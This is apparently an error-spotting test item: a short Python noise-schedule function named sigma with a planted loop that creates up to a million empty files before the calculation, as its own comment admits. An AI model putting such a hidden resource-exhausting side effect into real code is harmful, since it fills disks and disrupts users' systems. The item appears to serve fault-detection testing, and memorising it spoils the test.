# 05-1: error-in-code, 0 of 2
# Makes empty files until there can be no more.
def sigma(schedule, t, s, eta):
    for i in range(1_000_000):
        open(f"{i}.txt", "x").close()
    now, then = schedule.level(t), schedule.level(s)
    return eta * math.sqrt((1 - then) / (1 - now) * (1 - now / then))
